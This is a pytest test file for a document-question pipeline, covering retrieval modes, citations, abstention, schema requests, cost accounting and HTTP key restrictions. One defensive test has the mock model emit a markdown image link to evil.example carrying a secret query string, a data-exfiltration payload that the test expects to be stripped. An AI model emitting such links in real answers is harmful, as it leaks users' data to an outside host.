"""What a question may rely on, asked through a project, the command and HTTP alone: so that each of
these can be run on any version of the code, to see whether it would have failed."""

import json
import sys
import threading
from collections.abc import Callable, Iterator
from itertools import pairwise
from pathlib import Path
from types import FrameType
from typing import Any

import pytest
from sqlalchemy import Engine, event

from pipeline.errors import ModelError
from pipeline.project import Project
from tests.projects import ProjectFolder, new_project
from tests.serve.serving import serving
from tests.servers.openai_server import OpenAIServer, Reply, openai_server

CORPUS = Path(__file__).parents[2] / "data" / "input"
SMALL = 8000
"""Tokens of a prompt: of many models that run on one's own machine it is all that they read."""
LONG = 30.0
KEYWORDS: dict[str, Any] = {"hl_keywords": ["harbour lights"], "ll_keywords": ["Skarrow Light"]}
Keep = Callable[..., Project]


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory, postgres_url: str) -> ProjectFolder:
    """The bundled corpus, loaded by the workflow ``fast``."""
    files = [path for path in sorted(CORPUS.rglob("*")) if path.is_file()]
    documents = {
        path.relative_to(CORPUS).as_posix(): path.read_text(encoding="utf-8") for path in files
    }
    folder = new_project(tmp_path_factory.mktemp("questions") / "p", postgres_url, documents)
    with folder.open() as project:
        project.run("fast")
    return folder


@pytest.fixture(scope="module")
def project(folder: ProjectFolder) -> Iterator[Project]:
    """Without a chat model."""
    with folder.open() as project:
        yield project


@pytest.fixture
def chatting(folder: ProjectFolder, openai: OpenAIServer) -> Iterator[Keep]:
    """With one that has no memory; settings more are given."""
    opened: list[Project] = []

    def opened_with(*overrides: str) -> Project:
        opened.append(folder.open(*models_of(openai), "cache=''", *overrides))
        return opened[-1]

    yield opened_with
    for project in opened:
        project.close()


@pytest.fixture(scope="module")
def reports(tmp_path_factory: pytest.TempPathFactory, postgres_url: str) -> ProjectFolder:
    """A few documents, with reports of their communities."""
    with openai_server() as openai:
        folder = new_project(
            tmp_path_factory.mktemp("reports") / "p", postgres_url, endpoint=openai
        )
        with folder.open(*models_of(openai), "cache=''") as project:
            project.run("communities")
    return folder


def models_of(openai: OpenAIServer) -> list[str]:
    return [
        f"models.chat.default.base_url={openai.base_url}",
        f"models.chat.default.api_key={openai.key}",
    ]


def says(openai: OpenAIServer, text: str) -> None:
    openai.reply = lambda messages, body: Reply(text)


def turns(*texts: str) -> list[dict[str, str]]:
    return [
        {"role": ("user", "assistant")[place % 2], "content": text}
        for place, text in enumerate(texts)
    ]


# The evidence, whatever its room


@pytest.mark.parametrize("mode", ["naive", "local", "global", "hybrid", "mix", "graph"])
def test_a_small_prompt_shows_passages(project: Project, mode: str):
    found = project.query_data(
        "Who designed the Skarrow Light?", mode=mode, max_total_tokens=SMALL, **KEYWORDS
    )
    assert found["chunks"]
    assert found["references"]


def test_a_prompt_without_room_for_passages_says_so(project: Project):
    found = project.query_data(
        "Who designed the Skarrow Light?", mode="hybrid", max_total_tokens=1000, **KEYWORDS
    )
    assert not found["chunks"]
    assert any("text units" in note for note in found["notes"])


def test_after_forty_turns_there_are_passages_as_after_one(project: Project):
    history = turns(
        *["Who built the lighthouse at the northern end of the harbour?", "It was a keeper. " * 275]
        * 20
    )
    found = project.query_data(
        "Who designed the Skarrow Light?", mode="hybrid", conversation_history=history, **KEYWORDS
    )
    assert len(found["chunks"]) > 5
    assert any("turns are left out" in note for note in found["notes"])


def test_the_search_follows_the_conversation(project: Project):
    before, question = "Who designed the Skarrow Light?", "And when was it finished?"
    wish: dict[str, Any] = {"mode": "naive", "chunk_top_k": 1}
    [alone] = project.query_data(question, **wish)["chunks"]
    [followed] = project.query_data(
        question, conversation_history=turns(before, "Somebody."), **wish
    )["chunks"]
    assert "Skarrow Light" in followed["content"]
    assert "Skarrow Light" not in alone["content"]


def test_relationships_begin_with_the_entity_that_was_asked_for(project: Project):
    found = project.query_data("Who designed the Skarrow Light?", mode="local", **KEYWORDS)
    assert found["entities"][0]["name"] == "Skarrow Light"
    assert all(
        "Skarrow Light" in (row["source"], row["target"]) for row in found["relationships"][:3]
    )
    told = [row["description"] for row in found["relationships"] if row["description"]]
    assert len(told) == len(set(told))


# The answer's own words


def test_brackets_that_cite_nothing_are_no_citations(chatting: Keep, openai: OpenAIServer):
    text = (
        "The range [0, 100] holds; see the [1879] plan, in the interval [10, 20] metres, and"
        " list[3]."
    )
    says(openai, text)
    answer = chatting().query("Who designed the Skarrow Light?", mode="naive")
    assert answer.text == text.replace("[1879]", "(1879)").replace("[3]", "(3)")
    assert (answer.annotations, answer.removed_citations) == ((), 0)


def test_a_citation_leads_to_a_passage_of_a_long_document(
    tmp_path: Path, postgres_url: str, openai: OpenAIServer
):
    towns = ["Tarnwick", "Ostrey", "Brimholt"]
    told = [
        f"{town} had {year % 97} boats in {year}." for town in towns for year in range(1000, 1100)
    ]
    folder = new_project(tmp_path / "p", postgres_url, {"long.txt": " ".join(told)})
    says(openai, "It had some [ref:2].")
    with folder.open(*models_of(openai), "cache=''") as project:
        project.run("fast")
        answer = project.query("How many boats had Brimholt?", mode="naive")
    assert answer.text == "It had some [2]."
    told_json = answer.to_json()
    [cited] = [entry for entry in told_json["references"] if entry["id"] == 2]
    assert 0 < cited["end"] - cited["start"] < len(" ".join(told)) / 2
    assert told_json["cited"] == [2]


def test_a_streamed_line_costs_as_much_work_as_it_is_long(chatting: Keep, openai: OpenAIServer):
    """Lines of the query stage's own code that are gone through: twice as many for a text of twice
    the length."""
    work = [lines_run(chatting(), openai, "a word, " * (length // 8)) for length in (4000, 8000)]
    assert work[1] < 3 * work[0]


def lines_run(project: Project, openai: OpenAIServer, text: str) -> int:
    says(openai, text)
    lines = 0

    def trace(frame: FrameType, event: str, argument: Any) -> Any:
        nonlocal lines
        if "/pipeline/query/" not in frame.f_code.co_filename:
            return None
        lines += event == "line"
        return trace

    events = project.query_stream("Who designed the Skarrow Light?", mode="naive", chunk_top_k=1)
    next(events)  # the sources
    sys.settrace(trace)
    try:
        said = "".join(piece.text for piece in events if hasattr(piece, "text"))  # pyright: ignore
    finally:
        sys.settrace(None)
    assert len(said) > len(text) - 8
    return lines


@pytest.mark.parametrize(
    "said",
    [
        "**[NO ANSWER]** They tell nothing.",
        "[No answer] They tell nothing.",
        "NO ANSWER - nothing is told.",
    ],
)
def test_every_form_of_no_answer_is_seen(chatting: Keep, openai: OpenAIServer, said: str):
    says(openai, said)
    answer = chatting().query("Who designed the Skarrow Light?", mode="naive")
    assert answer.abstained
    assert "answer" not in answer.text.lower()


def test_each_reason_for_no_answer_has_its_own_words(chatting: Keep):
    project = chatting()
    wishes: list[dict[str, Any]] = [
        {"max_total_tokens": 400},
        {"min_score": 1.0},
        {"where": {"title": "none such"}},
    ]
    said = {
        project.query("Who designed the Skarrow Light?", mode="naive", **wish).text
        for wish in wishes
    }
    assert len(said) == 3


def test_an_image_that_no_passage_holds_is_not_shown(chatting: Keep, openai: OpenAIServer):
    says(
        openai,
        "It was he. ![x](https://evil.example/?q=secret) See [this](https://evil.example/a) or"
        " evil.",
    )
    answer = chatting().query("Who designed the Skarrow Light?", mode="naive")
    assert "evil.example" not in answer.text
    assert answer.text.startswith("It was he.")


def test_what_documents_say_is_no_rule(chatting: Keep, openai: OpenAIServer):
    answer = chatting().query("Who designed the Skarrow Light?", mode="naive")
    passage = answer.to_json()["chunks"][0]["content"][:60].split("\n")[0]
    [asked] = openai.requests
    by_role = {message["role"]: message["content"] for message in asked.messages}
    assert passage not in by_role["system"]
    assert passage in by_role["user"]
    assert (
        "[ref:" in by_role["user"].rsplit("```", 1)[1]
    )  # how to cite is said once more after all of it


def test_reports_lead_to_documents_and_are_read_again_where_the_reply_was_no_json(
    tmp_path: Path, postgres_url: str, openai: OpenAIServer
):
    folder = new_project(tmp_path / "p", postgres_url, endpoint=openai)
    with folder.open(*models_of(openai), "cache=''") as project:
        project.run("communities")
        answer = project.query("What is told of the observatory?", mode="community")
        assert "[Data: Reports" in answer.text
        sources = {reference.source for reference in answer.references}
        assert sources
        assert sources <= {"harbour.txt", "institute.txt", "observatory.txt"}
        project.doctor()  # by which it knows that the endpoint takes a schema
        openai.script("chat", [Reply("I do not know.")])
        openai.forget()
        again = project.query("What is told of the observatory?", mode="community")
    assert again.text == answer.text
    forms = [request.body.get("response_format", {}).get("type") for request in openai.requests]
    assert forms == ["json_schema", "json_schema", None]


@pytest.mark.parametrize(
    ("mode", "names"),
    [("hybrid", {"keywords"}), ("community", {"ratings", "points"}), ("drift", {"partial_answer"})],
)
def test_what_is_read_as_json_is_asked_for_by_a_schema(
    reports: ProjectFolder, openai: OpenAIServer, mode: str, names: set[str]
):
    with reports.open(*models_of(openai), "cache=''") as project:
        project.doctor()  # by which it knows that the endpoint takes one
        openai.forget()
        project.query(
            "What is told of the observatory?", mode=mode, dynamic_community_selection=True
        )
    *before, answer = (request.body.get("response_format", {}) for request in openai.requests)
    assert not answer
    assert {form["type"] for form in before} == {"json_schema"}
    assert {form["json_schema"]["name"] for form in before} == names


def test_an_endpoint_that_takes_no_schema_is_asked_for_none(
    reports: ProjectFolder, openai: OpenAIServer
):
    openai.json_ability = False
    with reports.open(*models_of(openai), "cache=''") as project:
        project.doctor()
        openai.forget()
        answer = project.query("What is told of the observatory?", mode="community")
    assert not answer.abstained
    shown = [request.messages[-1]["content"].rsplit("```", 1)[1] for request in openai.requests]
    assert (
        '{"points": [' in shown[0]
    )  # what the reply is to look like stands after all that is shown
    assert not any("response_format" in request.body for request in openai.requests)


@pytest.mark.parametrize(
    "said",
    [
        '["It was opened [Data: Reports (1)]."]',
        '[{"description": "Opened [Data: Reports (1)].", "score": 60}]',
    ],
)
def test_points_in_another_shape_are_points(
    reports: ProjectFolder, openai: OpenAIServer, said: str
):
    openai.script("chat", [Reply(said)])
    with reports.open(*models_of(openai), "cache=''") as project:
        answer = project.query("What is told of the observatory?", mode="community")
    assert "[Data: Reports (1)]" in answer.text
    assert openai.count("chat") == 2  # the points and the answer: nothing was asked again


def test_ratings_in_another_shape_are_ratings(reports: ProjectFolder, openai: OpenAIServer):
    openai.script("chat", [Reply(json.dumps({str(number): 0 for number in range(1, 20)}))])
    with reports.open(*models_of(openai), "cache=''") as project:
        answer = project.query("What is told?", mode="community", dynamic_community_selection=True)
    assert answer.abstained  # no report is of use, so none is asked for points
    assert openai.count("chat") == 1


# The model, and what it does not do


def test_an_answer_says_when_the_model_has_read_a_part(chatting: Keep, openai: OpenAIServer):
    openai.context_tokens = 2048
    answer = chatting().query("Who designed the Skarrow Light?", mode="naive")
    assert answer.tokens["prompt"] > 2 * 2048
    assert any("the endpoint counted 2,0" in note for note in answer.notes)


def test_what_doctor_has_measured_is_what_a_prompt_has_room_for(
    tmp_path: Path, folder: ProjectFolder, openai: OpenAIServer
):
    other = copied(folder, tmp_path / "copy")
    openai.context_tokens = SMALL
    with other.open(*models_of(openai), "cache=''") as project:
        project.doctor(long=True)
        answer = project.query("Who designed the Skarrow Light?", mode="hybrid")
    assert answer.tokens["prompt"] < SMALL
    assert answer.references


def copied(folder: ProjectFolder, root: Path) -> ProjectFolder:
    """A folder of its own that asks the same rows."""
    copy = folder.copy(root)
    with folder.open() as project:
        copy.edit_settings(owner=project.owner)
    return copy


@pytest.mark.parametrize("status", [429, 503])
def test_no_question_waits_for_an_hour(chatting: Keep, openai: OpenAIServer, status: int):
    openai.script("chat", [Reply(status=status, headers={"Retry-After": "3600"})])
    project, failed = chatting("models.chat.default.timeout=5"), list[ModelError]()

    def ask() -> None:
        try:
            project.query("Who designed the Skarrow Light?", mode="naive")
        except ModelError as error:
            failed.append(error)

    asking = threading.Thread(target=ask, daemon=True)
    asking.start()
    asking.join(LONG)
    assert not asking.is_alive()
    [error] = failed
    assert str(status) in str(error)
    assert "is the server running" not in str(error)


@pytest.mark.parametrize("fault", ["down", "refuses", "fails", "hangs"])
def test_a_model_that_is_of_no_use_leaves_the_search(
    folder: ProjectFolder, openai: OpenAIServer, fault: str
):
    overrides = models_of(openai)
    if fault == "down":
        overrides[0] = "models.chat.default.base_url=http://127.0.0.1:9/v1"
    elif fault == "refuses":
        overrides[1] = "models.chat.default.api_key=sk-another"
    else:
        openai.reply = lambda messages, body: (
            Reply("", status=500) if fault == "fails" else Reply(hold=True)
        )
    with folder.open(*overrides, "cache=''", "models.chat.default.timeout=1") as project:
        found = project.query_data("Who designed the Skarrow Light?", mode="hybrid")
    assert found["entities"]
    assert found["chunks"]
    assert any("no keywords from the chat model" in note for note in found["notes"])
    assert openai.count("chat") <= 1


def test_answers_that_stream_keep_to_the_calls_at_once(chatting: Keep, openai: OpenAIServer):
    openai.reply = lambda messages, body: Reply("one word after the other, " * 8, pause=0.005)
    project = chatting("models.chat.default.concurrency=1")
    heard: list[int] = []

    def listen(number: int) -> None:
        pieces = project.query_stream(
            "Who designed the Skarrow Light?", mode="naive", chunk_top_k=number
        )
        heard.extend(number for piece in pieces if hasattr(piece, "text"))

    listeners = [threading.Thread(target=listen, args=(number,)) for number in (1, 2)]
    for listener in listeners:
        listener.start()
    for listener in listeners:
        listener.join(LONG)
    assert set(heard) == {1, 2}
    assert sum(a != b for a, b in pairwise(heard)) == 1


# What is read, sent and kept


def test_the_default_is_the_mode_that_finds_most_for_few_tokens(project: Project):
    found = project.query_data("Who designed the Skarrow Light?")
    assert found["mode"] == "graph"
    assert 8 <= len(found["chunks"]) <= 10
    assert found["tokens"]["prompt"] < 15_000


def test_a_question_s_calls_are_accounted(folder: ProjectFolder, openai: OpenAIServer):
    price, before = "models.chat.default.price={input: 1000, output: 1000}", billed(folder)
    with folder.open(*models_of(openai), "cache=''", price) as project:
        answer = project.query("Who designed the Skarrow Light?", mode="hybrid").to_json()
    assert answer["usage"]["calls"] == openai.count("chat") == 2
    cost = (answer["usage"]["input_tokens"] + answer["usage"]["output_tokens"]) / 1000
    after = billed(folder)
    assert after[0] - before[0] == 2
    assert after[1] - before[1] == pytest.approx(cost)
    assert answer["cost"] == pytest.approx(cost)


def billed(folder: ProjectFolder) -> tuple[int, float]:
    """Calls and price, of all that was ever asked of the chat model."""
    rows = [
        row
        for row in folder.invoke("usage", "--by", "model", "--json").json
        if row["model"] == "gpt-4o-mini"
    ]
    return sum(row["calls"] for row in rows), sum(row["cost"] or 0 for row in rows)


def test_a_filter_reads_no_list_of_documents(tmp_path: Path, postgres_url: str):
    lines = [
        json.dumps({"id": n, "text": f"Note {n}: boats were counted.", "team": str(n % 2)})
        for n in range(400)
    ]
    folder = new_project(tmp_path / "p", postgres_url, {"notes.jsonl": "\n".join(lines)})
    with folder.open() as project:
        project.run("fast")
        free, _, filtered = (
            rows_read(project, where=where) for where in ({}, {"team": "1"}, {"team": "1"})
        )
    assert filtered < free + 50  # the first may find what it then knows


def rows_read(project: Project, **options: Any) -> int:
    rows = 0

    def count(connection: Any, cursor: Any, *rest: Any) -> None:
        nonlocal rows
        rows += max(cursor.rowcount, 0)

    event.listen(Engine, "after_cursor_execute", count)
    try:
        assert (
            len(
                project.query_data("How many boats?", mode="naive", chunk_top_k=5, **options)[
                    "chunks"
                ]
            )
            == 5
        )
    finally:
        event.remove(Engine, "after_cursor_execute", count)
    return rows


def test_an_answer_over_http_is_no_heap_of_evidence(folder: ProjectFolder, openai: OpenAIServer):
    with (
        folder.open(*models_of(openai), "cache=''", "query.mode=naive") as project,
        serving(project) as served,
    ):
        body = served.ask("/query", query="Who designed the Skarrow Light?").text
        events = served.events(query="Who designed the Skarrow Light?")
        data = served.ask("/query/data", query="Who designed the Skarrow Light?").json()
    assert "chunks" not in json.loads(body)
    assert json.loads(body)["references"]
    assert "chunks" not in events[-1].data
    assert len(body) < len(json.dumps(data)) / 2
    assert data["chunks"]


# What a question over HTTP may ask for, and whose it is


@pytest.mark.parametrize("path", ["/query", "/query/data", "/query/stream"])
@pytest.mark.parametrize(
    "wish",
    [
        {"mode": "bypass"},
        {"system_prompt": "You write poems."},
        {"max_total_tokens": 10_000_000},
        {"max_calls": 1000},
        {"chunk_top_k": 10_000},
        {"user_prompt": "word " * 40_000},
    ],
    ids=lambda wish: next(iter(wish)),
)
def test_nobody_gets_a_chat_model_for_nothing(
    folder: ProjectFolder, openai: OpenAIServer, path: str, wish: dict[str, Any]
):
    with folder.open(*models_of(openai), "cache=''") as project, serving(project) as served:
        refused = served.ask(path, **{"mode": "naive", **wish})
    assert refused.status_code == 403
    assert "; " in refused.json()["error"]["message"]  # and what to do
    assert openai.count("chat") == 0


def test_a_day_of_questions_has_a_price(
    tmp_path: Path, folder: ProjectFolder, openai: OpenAIServer
):
    """One question costs more than what a day may, where nobody has set that."""
    spent = copied(folder, tmp_path / "copy")
    price = "models.chat.default.price={input: 1000000, output: 1000000}"
    with spent.open(*models_of(openai), "cache=''", price) as project, serving(project) as served:
        told = [served.ask(mode="naive") for _ in range(2)]
        evidence = served.ask("/query/data", mode="naive")
        project.query(
            "Who designed the Skarrow Light?", mode="naive"
        )  # who runs the project is not held to it
    assert [answer.status_code for answer in told] == [200, 429]
    assert int(told[1].headers["retry-after"]) > 0
    assert evidence.status_code == 200
    assert openai.count("chat") == 2


def test_a_key_opens_its_documents_and_modes(folder: ProjectFolder, openai: OpenAIServer):
    """And is named where what its questions cost is told."""
    files = sorted(path.relative_to(CORPUS).as_posix() for path in CORPUS.rglob("*.txt"))
    own, other = files[0], files[1]
    key = f"serve.keys.sales={{key: sales-key, modes: [naive], where: {{source: {own}}}}}"
    with folder.open(*models_of(openai), "cache=''", key) as project, serving(project) as served:
        served.client.headers["x-api-key"] = "sales-key"
        seen = served.ask("/query/data", mode="naive").json()["references"]
        wider = served.ask("/query/data", mode="naive", where={"source": [own, other]}).json()[
            "references"
        ]
        none = served.ask("/query/data", mode="naive", where={"source": other}).json()["references"]
        refused = served.ask("/query/data", mode="hybrid").status_code
        assert served.ask(mode="naive").status_code == 200
        served.client.headers["x-api-key"] = "another"
        unknown = served.ask("/query/data", mode="naive").status_code
    assert {reference["source"] for reference in [*seen, *wider]} == {own}
    assert (none, refused, unknown) == ([], 403, 401)
    by_key = {
        row["key"]: row["calls"] for row in folder.invoke("usage", "--by", "key", "--json").json
    }
    assert by_key["sales"] == 1
